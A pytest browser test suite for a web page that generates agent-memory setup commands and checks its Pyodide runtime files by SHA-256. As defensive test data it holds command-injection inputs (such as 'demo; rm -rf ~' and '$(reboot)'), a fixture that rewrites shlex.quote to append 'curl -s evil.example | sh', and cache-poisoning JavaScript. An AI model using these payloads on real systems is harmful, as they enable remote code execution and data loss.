"""The Space's page in headless Chromium, served by `build.py --serve` on 127.0.0.1: Python loads from the site
itself, the form makes commands, the copy button copies them, and loading failures are reported."""

from __future__ import annotations

import gzip
import hashlib
import io
import re
import shutil
import urllib.request
import zipfile
from pathlib import Path
from typing import Any

import pytest
import space_site
from space_browser import (  # noqa: F401
    ARTIFACTS,
    chromium_fixture,
    contrast,
    fill_form,
    open_page,
    served_fixture,
    wait_until_settled,
)

from space import generator

pytestmark = pytest.mark.slow

FORM = {
    "Project": "demo",
    "Bucket": "file:///home/me/agent-memory-store",
    "Operating system": "Linux",
    "Installer": "venv + pip",
    "Agent": "Codex and Claude Code",
    "Hooks": False,
    "Extra skills": "",
}


def test_the_page_loads_python_from_its_own_origin_and_makes_the_commands(chromium: object, served) -> None:
    url, report = served
    page, traffic = open_page(chromium, url)
    assert wait_until_settled(page) == "ready", page.inner_text("#status")
    assert traffic.blocked == []
    assert all(request.startswith(url) for request in traffic.requests), traffic.requests
    paths = {request[len(url) :] for request in traffic.requests}
    runtime = {"pyodide/pyodide.asm.wasm.gz", "pyodide/snapshot.bin.gz", "pyodide/python_stdlib.zip"}
    assert runtime | {"pyodide/pyodide.mjs", "pyodide/pyodide.asm.mjs"} <= paths
    # Python and the generator from the snapshot, the wasm from the gzipped file: not the plain one, no
    # lock file, and no generator file either (the snapshot has it, imported from the same files)
    assert not {"pyodide/pyodide.asm.wasm", "pyodide/pyodide-lock.json"} & paths, paths
    assert not any(path.startswith("py/") for path in paths), paths
    # the loader was downloaded as bytes to be checked, never imported from its address
    for path in LOADER:
        assert page.evaluate(f"performance.getEntriesByName({url + path!r})[0].initiatorType") == "fetch", path
    # the helper's version and hash are on the page, and the agents' page is linked
    assert page.inner_text("#helper-sha256") == report["sha256"]
    assert page.inner_text("#helper-version") == f"agent-memory {report['version']}"
    assert page.get_by_role("link", name=f"{url}bootstrap.md").is_visible()

    commands = fill_form(page, FORM)
    assert commands.startswith("bash <<'AGENT_MEMORY_SETUP'")
    assert f'curl -fsSL --retry 2 -o "$wheel" {report["helper_url"]}' in commands
    assert f'[ "$actual" = {report["sha256"]} ]' in commands
    assert "--project demo --bucket file:///home/me/agent-memory-store --agent both --no-hooks" in commands
    assert "--space-revision local" in commands
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.evaluate("document.activeElement.blur()")
    page.screenshot(path=str(ARTIFACTS / "space-form.png"), full_page=True)

    windows = fill_form(page, {"Operating system": "Windows", "Installer": "uv tool", "Agent": "Codex"})
    assert windows.startswith("& {") and "uv tool install --force --reinstall $wheel" in windows
    assert "--bucket 'file:///home/me/agent-memory-store' --agent codex --no-hooks" in windows
    page.context.close()


def test_hostile_input_is_refused_in_the_form_with_a_message(chromium: object, served) -> None:
    url, _ = served
    page, _ = open_page(chromium, url)
    assert wait_until_settled(page) == "ready"
    fill_form(page, {**FORM, "Project": "demo; rm -rf ~"})
    assert "Invalid project name" in page.inner_text("#project-error")
    assert page.get_by_label("Project", exact=True).get_attribute("aria-invalid") == "true"
    assert "rm -rf" not in page.get_by_label("Setup commands", exact=True).inner_text()
    assert page.get_by_role("button", name="Copy").is_disabled()
    fill_form(page, {"Project": "demo", "Extra skills": "tools@r1 $(reboot)@x"})
    assert page.inner_text("#skills-error") and page.inner_text("#project-error") == ""
    fill_form(page, {"Extra skills": "tools@r1", "Bucket": "file:///tmp/it's $(here)"})
    commands = page.get_by_label("Setup commands", exact=True).inner_text()
    assert "--bucket 'file:///tmp/it'\"'\"'s $(here)'" in commands  # quoted: reaches the helper as typed
    page.context.close()


def test_the_copy_button_and_the_keyboard(chromium: object, served) -> None:
    url, _ = served
    page, _ = open_page(chromium, url, permissions=["clipboard-read", "clipboard-write"])
    assert wait_until_settled(page) == "ready"
    page.get_by_label("Project", exact=True).focus()
    page.keyboard.type("my-project")
    page.keyboard.press("Enter")  # submits the form: the commands get the focus
    output = page.get_by_label("Setup commands", exact=True)
    assert page.evaluate("document.activeElement.id") == "setup-commands"
    page.keyboard.press("Shift+Tab")  # back to the Copy button, in reading order
    assert page.evaluate("document.activeElement.id") == "copy"
    page.keyboard.press("Enter")
    page.wait_for_function("document.getElementById('copy-status').textContent.startsWith('Copied')")
    assert page.evaluate("navigator.clipboard.readText()") == output.inner_text()
    assert "--project my-project" in output.inner_text()
    page.context.close()


def octet_stream(route: Any) -> None:
    response = route.fetch()
    route.fulfill(response=response, headers={**response.headers, "content-type": "application/octet-stream"})


def test_the_page_becomes_ready_whatever_content_type_the_runtime_is_served_with(chromium: object, served) -> None:
    url, _ = served
    binaries = {suffix: octet_stream for suffix in (".wasm", ".wasm.gz", ".bin.gz", ".zip")}
    page, traffic = open_page(chromium, url, answer=binaries)
    assert wait_until_settled(page) == "ready", page.inner_text("#status")
    assert "--project demo" in fill_form(page, {"Project": "demo"})
    page.context.close()

    # a browser without DecompressionStream starts Python the slow way, from the plain wasm (octet-stream too)
    page, traffic = open_page(chromium, url, answer=binaries, init_script="delete window.DecompressionStream")
    assert wait_until_settled(page) == "ready", page.inner_text("#status")
    paths = {request[len(url) :] for request in traffic.requests}
    assert "pyodide/pyodide.asm.wasm" in paths and not any(path.endswith(".gz") for path in paths), paths
    assert "py/space/generator.py" in paths  # downloaded and checked, then imported
    assert traffic.blocked == []
    assert "--project demo" in fill_form(page, {"Project": "demo"})
    page.context.close()


def test_a_failed_download_is_reported_at_once(chromium: object, served) -> None:
    url, _ = served

    failures = {
        "HTTP 404": lambda route: route.fulfill(status=404, body="not here"),
        "Failed to fetch": lambda route: route.abort("connectionreset"),
    }
    for suffix in ("pyodide.asm.wasm.gz", "snapshot.bin.gz", "python_stdlib.zip"):
        for message, failure in failures.items():
            page, _ = open_page(chromium, url, answer={suffix: failure})
            assert wait_until_settled(page) == "error", suffix
            status = page.locator("#status")
            assert status.get_attribute("role") == "alert" and status.is_visible()
            text = status.inner_text()
            assert f"Could not download pyodide/{suffix}" in text and (message in text or "HTTP" not in message)
            assert "bootstrap.md" in page.get_by_label("Setup commands", exact=True).inner_text()
            page.context.close()


def test_a_tampered_generator_file_is_refused(chromium: object, served) -> None:
    url, _ = served

    def tampered(route: Any) -> None:
        body = route.fetch().body() + b"\nRESERVED_SKILL = 'anything'\n"
        route.fulfill(status=200, body=body, content_type="text/x-python")

    # the files are loaded only without the snapshot (which has the generator, and is checked the same way)
    no_snapshot = "delete window.DecompressionStream"
    page, _ = open_page(chromium, url, answer={"/names.py": tampered}, init_script=no_snapshot)
    assert wait_until_settled(page) == "error"
    assert re.search(r"agent_memory/names\.py has SHA-256 [0-9a-f]{64}, not", page.inner_text("#status"))
    page.context.close()


def test_a_page_that_never_finishes_loading_gives_up_with_a_message(chromium: object, served) -> None:
    url, _ = served
    context = chromium.new_context()
    context.route("**/python_stdlib.zip", lambda route: None)  # never answered
    page = context.new_page()
    page.clock.install()
    page.goto(url)
    page.wait_for_function("document.body.dataset.state === 'loading'")
    page.clock.run_for(95_000)  # past the page's 90-second watchdog
    assert page.evaluate("document.body.dataset.state") == "error"
    assert "did not load within 90 seconds" in page.inner_text("#status")
    context.close()


def test_the_page_is_readable_on_a_phone_and_in_dark_mode(chromium: object, served) -> None:
    url, _ = served
    for options in ({"viewport": {"width": 360, "height": 740}, "is_mobile": True}, {"color_scheme": "dark"}):
        page, _ = open_page(chromium, url, **options)
        assert wait_until_settled(page) == "ready"
        fill_form(page, {"Project": "demo", "Bucket": "file:///x; rm"})
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        ratios = contrast(page, CONTRASTED)
        assert all(ratio >= 4.5 for ratio in ratios.values()), ratios
        page.context.close()


# each kind of text the contrast is measured of
CONTRASTED = [
    "h1",
    ".lead",
    "label[for=project]",
    ".hint",
    "#bucket-error",
    "#generate",
    "#setup-commands",
    "#status",
    "a",
    "#project",
]


def watched(page: Any) -> tuple[list[str], list[str]]:
    """The console errors and the failed requests of `page`, as they come."""
    errors: list[str] = []
    failed: list[str] = []
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("response", lambda response: failed.append(response.url) if response.status >= 400 else None)
    return errors, failed


def test_no_console_error_and_no_failed_request_on_the_pages(chromium: object, served) -> None:
    url, _ = served
    for path in ("", "bootstrap.html"):
        context = chromium.new_context()
        page = context.new_page()
        errors, failed = watched(page)
        page.goto(url + path)
        if not path:
            assert wait_until_settled(page) == "ready"
            fill_form(page, FORM)
        icon = page.evaluate("document.querySelector('link[rel=icon]').href")
        assert icon == f"{url}favicon.svg"
        assert errors == [] and failed == [], (path, errors, failed)
        context.close()
    with urllib.request.urlopen(f"{url}favicon.ico") as response:  # what browsers ask for on any page of the site
        assert response.status == 200 and response.headers.get_content_type() == "image/x-icon"


def test_long_commands_wrap_inside_the_box_and_copy_gives_their_exact_bytes(chromium: object, served) -> None:
    url, report = served
    long_bucket = "file:///home/me/" + "/".join(["a-rather-long-folder-name"] * 6) + "/store"
    page, _ = open_page(
        chromium, url, viewport={"width": 390, "height": 800}, permissions=["clipboard-read", "clipboard-write"]
    )
    assert wait_until_settled(page) == "ready"
    fill_form(page, {**FORM, "Bucket": long_bucket})
    sizes = page.evaluate("(() => { const e = document.getElementById('setup-commands');"
                          " return [e.scrollWidth, e.clientWidth]; })()")  # fmt: skip
    assert sizes[0] <= sizes[1], sizes  # nothing runs out sideways: long lines wrap in the box
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    page.get_by_role("button", name="Copy").click()
    page.wait_for_function("document.getElementById('copy-status').textContent.startsWith('Copied')")
    helper = generator.Helper(
        url=report["helper_url"], sha256=report["sha256"], version=report["version"], revision="local"
    )
    form = {"os": "linux", "installer": "venv", "agent": "both", "project": "demo", "bucket": long_bucket}
    assert page.evaluate("navigator.clipboard.readText()") == generator.script(generator.choices(form), helper)
    page.context.close()


def test_the_codex_consent_box_and_the_windows_folder_warning(chromium: object, served) -> None:
    url, _ = served
    page, _ = open_page(chromium, url)
    assert wait_until_settled(page) == "ready"
    box = page.get_by_label("Let Codex save from its sandbox", exact=True)
    assert not box.is_checked()  # off unless the owner ticks it
    assert "workspace-write" in page.inner_text("#codex_sandbox-hint")
    commands = fill_form(page, {**FORM, "Let Codex save from its sandbox": True})
    assert "--no-hooks --codex-sandbox --space-revision local" in commands
    fill_form(page, {"Agent": "Claude Code"})
    assert page.inner_text("#codex_sandbox-error") == "This consent is for Codex: choose Codex, or both, as the agent."
    assert page.get_by_role("button", name="Copy").is_disabled()
    fill_form(page, {"Agent": "Codex and Claude Code", "Let Codex save from its sandbox": False})
    assert page.inner_text("#bucket-warning") == ""
    commands = fill_form(page, {"Operating system": "Windows"})
    assert "--bucket 'file:///home/me/agent-memory-store'" in commands  # accepted, with a word about it
    assert page.inner_text("#bucket-warning").startswith("Note: On Windows, file:///home/me/agent-memory-store is ")
    fill_form(page, {"Bucket": "file:///C:/Users/me/agent-memory-store"})
    assert page.inner_text("#bucket-warning") == ""
    page.context.close()


def test_the_sync_box_adds_sync_to_bootstrap(chromium: object, served) -> None:
    url, _ = served
    page, _ = open_page(chromium, url)
    assert wait_until_settled(page) == "ready"
    box = page.get_by_label("Sync the agents' own memory", exact=True)
    assert not box.is_checked()  # off unless the owner ticks it
    assert "--sync" not in fill_form(page, FORM)
    commands = fill_form(page, {"Sync the agents' own memory": True})
    assert "--agent both --no-hooks --sync --space-revision local" in commands
    page.context.close()


# the runtime's binary files (a Space serves them from its file storage), and Pyodide's loader
RUNTIME = ("pyodide/pyodide.asm.wasm.gz", "pyodide/snapshot.bin.gz", "pyodide/python_stdlib.zip")
LOADER = ("pyodide/pyodide.mjs", "pyodide/pyodide.asm.mjs")
CACHED_KEYS = "caches.open('agent-memory-space').then((c) => c.keys()).then((keys) => keys.map((r) => r.url))"
# the SHA-256 of each entry of the page's Cache Storage, by key
CACHED_DIGESTS = """async () => {
  const cache = await caches.open('agent-memory-space');
  const hex = (buffer) => Array.from(new Uint8Array(buffer), (b) => b.toString(16).padStart(2, '0')).join('');
  const digests = {};
  for (const request of await cache.keys()) {
    const data = await (await cache.match(request)).arrayBuffer();
    digests[request.url] = hex(await crypto.subtle.digest('SHA-256', data));
  }
  return digests;
}"""
# Every entry of the page's Cache Storage tampered with under its own key: the snapshot as the attack found it
# (Python's memory with the commands' `fail "the SHA-256` made `echo "the SHA-256`, the same length,
# gzipped again), every other file with one byte changed
POISON_CACHE = """async () => {
  const cache = await caches.open('agent-memory-space');
  const piped = (data, stream) => new Response(new Blob([data]).stream().pipeThrough(stream)).arrayBuffer();
  const [fail, echo] = [new TextEncoder().encode('fail "the SHA-256'), new TextEncoder().encode('echo')];
  for (const request of await cache.keys()) {
    let data = new Uint8Array(await (await cache.match(request)).arrayBuffer());
    if (request.url.includes('/snapshot.bin.gz?')) {
      const memory = new Uint8Array(await piped(data, new DecompressionStream('gzip')));
      let found = 0;
      for (let i = memory.indexOf(fail[0]); i !== -1; i = memory.indexOf(fail[0], i + 1)) {
        if (fail.every((b, j) => memory[i + j] === b)) { memory.set(echo, i); found += 1; }
      }
      if (!found) throw new Error('the snapshot holds no `fail "the SHA-256`');
      data = new Uint8Array(await piped(memory, new CompressionStream('gzip')));
    } else {
      data[data.length >> 1] ^= 1;
    }
    await cache.put(request, new Response(data));
  }
}"""
# the page without DecompressionStream when its address ends with this (so that one context can load both ways)
PLAIN = "?no-decompression-stream"
NO_DECOMPRESSION_STREAM = f"if (location.search === {PLAIN!r}) delete window.DecompressionStream;"


def expected_commands(report: dict, form: dict) -> str:
    """The commands the generator itself writes for `form` with this build's helper."""
    helper = generator.Helper(
        url=report["helper_url"], sha256=report["sha256"], version=report["version"], revision="local"
    )
    return generator.script(generator.choices(form), helper)


def shown_commands(page: Any) -> str:
    return page.evaluate("document.getElementById('setup-commands').textContent")


def runtime_digests(site: Path) -> dict[str, str]:
    """Every file the built page runs, by path: the SHA-256 index.html carries for each."""
    config = space_site.page_config((site / "index.html").read_text())
    return {**config["runtime"], **{f"py/{path}": digest for path, digest in config["modules"].items()}}


def warnings_of(page: Any) -> list[str]:
    warnings: list[str] = []
    page.on("console", lambda message: warnings.append(message.text) if message.type == "warning" else None)
    return warnings


def test_what_is_typed_before_python_is_ready_is_kept_and_the_commands_follow(chromium: object, served) -> None:
    url, _ = served
    held: list[Any] = []
    page, _ = open_page(chromium, url, answer={"snapshot.bin.gz": held.append})  # Python cannot start yet
    page.wait_for_function("document.getElementById('project') !== null")
    fill_form(page, {"Project": "early-bird", "Bucket": "file:///home/me/store", "Agent": "Codex"})
    assert page.evaluate("document.body.dataset.state") == "loading" and held
    assert "Fill in the project name" in page.get_by_label("Setup commands", exact=True).inner_text()
    for route in held:
        route.continue_()
    assert wait_until_settled(page) == "ready"
    commands = page.get_by_label("Setup commands", exact=True).inner_text()  # no typing after ready
    assert "--project early-bird --bucket file:///home/me/store --agent codex" in commands
    assert page.get_by_label("Project", exact=True).input_value() == "early-bird"
    page.context.close()


def test_a_second_visit_downloads_nothing_big_and_keeps_only_this_version(chromium: object, served) -> None:
    url, _ = served
    cached = RUNTIME + LOADER
    page, traffic = open_page(chromium, url)
    assert wait_until_settled(page) == "ready"
    page.wait_for_function(f"{CACHED_KEYS}.then((keys) => keys.length === {len(cached)})")
    keys = sorted(page.evaluate(CACHED_KEYS))
    assert [key.split("?sha256=")[0] for key in keys] == sorted(url + path for path in cached)
    # an earlier version's file, left in the cache: dropped once this version is ready
    stale = f"{url}pyodide/snapshot.bin.gz?sha256={'0' * 64}"
    page.evaluate(f"caches.open('agent-memory-space').then((c) => c.put({stale!r}, new Response('old')))")

    traffic.requests.clear()  # routing is on: the browser's HTTP cache is off, only Cache Storage can answer
    page.goto(url)
    assert wait_until_settled(page) == "ready"
    assert page.evaluate("document.body.dataset.runtime") == "cache"
    paths = {request[len(url) :] for request in traffic.requests}
    assert not any(path.startswith("pyodide/") for path in paths), paths
    assert "--project demo" in fill_form(page, {"Project": "demo"})
    page.wait_for_function(f"{CACHED_KEYS}.then((keys) => !keys.includes({stale!r}))")
    assert sorted(page.evaluate(CACHED_KEYS)) == keys
    page.context.close()


def test_a_poisoned_cache_entry_of_each_runtime_file_is_dropped_and_replaced(chromium: object, served) -> None:
    url, report = served
    expected = runtime_digests(Path(report["site"]))
    form = {"os": "linux", "installer": "venv", "agent": "both", "project": "demo", "bucket": FORM["Bucket"]}
    commands = expected_commands(report, form)
    entries = {f"{url}{path}?sha256={digest}": digest for path, digest in expected.items()}
    page, traffic = open_page(chromium, url, init_script=NO_DECOMPRESSION_STREAM)
    warnings = warnings_of(page)
    assert wait_until_settled(page) == "ready"
    page.wait_for_function(f"{CACHED_KEYS}.then((keys) => keys.length === {len(RUNTIME + LOADER)})")
    page.goto(f"{url}bootstrap.html")  # a page of the site that runs nothing
    # the files only the slow way needs (the plain wasm, the generator's), put where the page keeps them
    # (cheaper than starting Python the slow way once more)
    page.evaluate(
        "async (entries) => { const cache = await caches.open('agent-memory-space');"
        " for (const [key, address] of entries)"
        " if (!(await cache.match(key))) await cache.put(key, await fetch(address)); }",
        [[key, key.split("?sha256=")[0]] for key in entries],
    )
    assert page.evaluate(CACHED_DIGESTS) == entries

    page.evaluate(POISON_CACHE)
    poisoned = page.evaluate(CACHED_DIGESTS)
    assert poisoned.keys() == entries.keys() and all(poisoned[key] != digest for key, digest in entries.items())
    traffic.requests.clear()
    page.goto(url)
    assert wait_until_settled(page) == "ready", page.inner_text("#status")
    fill_form(page, FORM)
    assert shown_commands(page) == commands
    page.goto(url + PLAIN)
    assert wait_until_settled(page) == "ready", page.inner_text("#status")
    fill_form(page, FORM)
    assert shown_commands(page) == commands
    # each entry was found different, dropped and downloaded again, and the cache now holds the page's files
    for path in expected:
        assert any(w.startswith(f"{path} in Cache Storage does not match this page") for w in warnings), path
        assert f"{url}{path}" in traffic.requests, path
    page.wait_for_function(f"{CACHED_KEYS}.then((keys) => keys.length === {len(expected)})")
    assert page.evaluate(CACHED_DIGESTS) == entries
    page.context.close()


def test_a_revision_never_uses_another_revisions_cache_entries(chromium: object, served, tmp_path: Path) -> None:
    _, report = served
    site = tmp_path / "site"
    shutil.copytree(report["site"], site)
    loader = site / "pyodide" / "pyodide.mjs"
    first = loader.read_bytes()
    with space_site.serving(site) as url:
        page, traffic = open_page(chromium, url)
        warnings = warnings_of(page)
        assert wait_until_settled(page) == "ready"
        page.wait_for_function(f"{CACHED_KEYS}.then((keys) => keys.length === {len(RUNTIME + LOADER)})")
        first_keys = page.evaluate(CACHED_KEYS)

        # the next revision: another loader (which marks the page it runs in), and a page naming its hash
        second = first + b'\nglobalThis.loaderRevision = "second";\n'
        loader.write_bytes(second)
        index = (site / "index.html").read_text()
        old, new = hashlib.sha256(first).hexdigest(), hashlib.sha256(second).hexdigest()
        (site / "index.html").write_text(index.replace(old, new))
        traffic.requests.clear()
        page.goto(url)
        assert wait_until_settled(page) == "ready", page.inner_text("#status")
        assert page.evaluate("globalThis.loaderRevision") == "second"
        assert traffic.requests.count(f"{url}pyodide/pyodide.mjs") == 1  # its own file, not the entry before it
        assert "--project demo" in fill_form(page, {"Project": "demo"})
        stale = f"{url}pyodide/pyodide.mjs?sha256={old}"
        page.wait_for_function(f"{CACHED_KEYS}.then((keys) => !keys.includes({stale!r}))")  # dropped once ready
        assert sorted(page.evaluate(CACHED_KEYS)) == sorted(key.replace(old, new) for key in first_keys)

        # the first revision's loader planted under the second's key: never run, downloaded again
        key = f"{url}pyodide/pyodide.mjs?sha256={new}"
        planted = first.decode()
        page.evaluate("([key, text]) => caches.open('agent-memory-space').then((c) => c.put(key, new Response(text)))",
                      [key, planted])  # fmt: skip
        traffic.requests.clear()
        page.goto(url)
        assert wait_until_settled(page) == "ready", page.inner_text("#status")
        assert page.evaluate("globalThis.loaderRevision") == "second"
        assert traffic.requests.count(f"{url}pyodide/pyodide.mjs") == 1
        assert any(w.startswith("pyodide/pyodide.mjs in Cache Storage does not match this page") for w in warnings)
        page.context.close()


def tampered_stdlib(original: bytes) -> bytes:
    """Python's standard library with `shlex.quote` appending a command to everything it quotes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "shlex.py":
                data += b"\n_quote = quote\ndef quote(s):\n    return _quote(s) + '; curl -s evil.example | sh #'\n"
            target.writestr(info, data)
    return out.getvalue()


def test_without_decompression_stream_a_tampered_standard_library_stops_the_page(chromium: object, served) -> None:
    url, report = served
    bad = tampered_stdlib((Path(report["site"]) / "pyodide" / "python_stdlib.zip").read_bytes())
    tamper = {"on": False}

    def stdlib(route: Any) -> None:
        if tamper["on"]:
            route.fulfill(status=200, body=bad, content_type="application/zip")
        else:
            route.continue_()

    stdlib_url = f"{url}pyodide/python_stdlib.zip"
    page, traffic = open_page(chromium, url, answer={"/python_stdlib.zip": stdlib}, init_script=NO_DECOMPRESSION_STREAM)
    warnings = warnings_of(page)
    assert wait_until_settled(page) == "ready"  # with the snapshot: the standard library is the same file
    # the tampered library in Cache Storage under the page's key, and from the server: dropped, downloaded
    # again, and the second mismatch stops the page
    tamper["on"] = True
    page.evaluate("""async (url) => {
      const cache = await caches.open('agent-memory-space');
      const key = (await cache.keys()).map((r) => r.url).find((u) => u.startsWith(url + '?sha256='));
      await cache.put(key, await fetch(url, { cache: 'reload' }));
    }""", stdlib_url)  # fmt: skip
    traffic.requests.clear()
    page.goto(url + PLAIN)
    assert wait_until_settled(page) == "error"
    status = page.inner_text("#status")
    digest = runtime_digests(Path(report["site"]))["pyodide/python_stdlib.zip"]
    assert f"pyodide/python_stdlib.zip has SHA-256 {hashlib.sha256(bad).hexdigest()}, not {digest}" in status
    assert any(w.startswith("pyodide/python_stdlib.zip in Cache Storage does not match this page") for w in warnings)
    assert traffic.requests.count(stdlib_url) == 1
    assert "evil.example" not in shown_commands(page) and "bootstrap.md" in shown_commands(page)
    page.wait_for_function("caches.keys().then((names) => names.length === 0)")  # nothing of it kept

    # with nothing in the cache: downloaded twice, then stopped
    traffic.requests.clear()
    page.goto(url + PLAIN)
    assert wait_until_settled(page) == "error"
    assert "pyodide/python_stdlib.zip has SHA-256" in page.inner_text("#status")
    assert traffic.requests.count(stdlib_url) == 2
    page.context.close()


def test_a_runtime_file_that_differs_from_the_page_is_refused_and_not_kept(chromium: object, served) -> None:
    url, _ = served

    def other_bytes(route: Any) -> None:
        route.fulfill(status=200, body=gzip.compress(b"not the snapshot"), content_type="application/gzip")

    page, traffic = open_page(chromium, url, answer={"snapshot.bin.gz": other_bytes})
    assert wait_until_settled(page) == "error"
    status = page.inner_text("#status")
    assert re.search(r"pyodide/snapshot\.bin\.gz has SHA-256 [0-9a-f]{64}, not [0-9a-f]{64}", status), status
    assert traffic.requests.count(f"{url}pyodide/snapshot.bin.gz") == 2  # downloaded again once, then stopped
    page.wait_for_function("caches.keys().then((names) => names.length === 0)")
    page.context.close()


def test_the_page_runs_nothing_it_cannot_check(chromium: object, served) -> None:
    url, _ = served

    # page.js itself, checked by the browser against the hash in index.html
    def other_script(route: Any) -> None:
        route.fulfill(status=200, body=route.fetch().body() + b"\n", content_type="text/javascript")

    page, traffic = open_page(chromium, url, answer={"/page.js": other_script})
    assert wait_until_settled(page) == "error"
    assert page.inner_text("#status").startswith("page.js could not be loaded, or it differs from the one this page")
    assert not any("/pyodide/" in request for request in traffic.requests), traffic.requests
    page.context.close()

    # a browser that cannot compute SHA-256 (plain http, not this machine): nothing is downloaded or run
    no_digest = "Object.defineProperty(Crypto.prototype, 'subtle', { get: () => undefined });"
    page, traffic = open_page(chromium, url, init_script=no_digest)
    assert wait_until_settled(page) == "error"
    assert "checks every file it runs against its SHA-256" in page.inner_text("#status")
    assert "bootstrap.md" in shown_commands(page)
    assert not any("/pyodide/" in request for request in traffic.requests), traffic.requests
    page.context.close()


def test_on_a_server_that_serves_binary_files_as_a_space_does(chromium: object, served) -> None:
    _, report = served
    with space_site.space_like_serving(Path(report["site"])) as url:
        context = chromium.new_context()  # not routed: the HTTP cache is on, as for a visitor
        responses: list[tuple[str, int]] = []
        context.on("response", lambda response: responses.append((response.url, response.status)))
        page = context.new_page()
        page.goto(url)
        assert wait_until_settled(page) == "ready", page.inner_text("#status")
        # the runtime came from the other origin after `no-store` redirects, as octet-stream: checked, decompressed
        redirected = {address for address, status in responses if status == 302}
        assert {url + path for path in RUNTIME} <= redirected, redirected
        fetched = {address.split("?")[0] for address, status in responses if status == 200 and "?X-Amz-" in address}
        assert {path.rsplit("/", 1)[-1] for path in RUNTIME} <= {address.rsplit("/", 1)[-1] for address in fetched}
        assert "--project demo" in fill_form(page, {"Project": "demo"})
        page.wait_for_function(f"{CACHED_KEYS}.then((keys) => keys.length === {len(RUNTIME + LOADER)})")
        responses.clear()
        page.goto(url)  # the HTTP cache cannot answer for what was redirected `no-store`: Cache Storage does
        assert wait_until_settled(page) == "ready"
        assert page.evaluate("document.body.dataset.runtime") == "cache"
        assert not any(address.split("?")[0].endswith((".gz", ".zip", ".wasm")) for address, _ in responses)
        assert "--project demo" in fill_form(page, {"Project": "demo"})
        context.close()
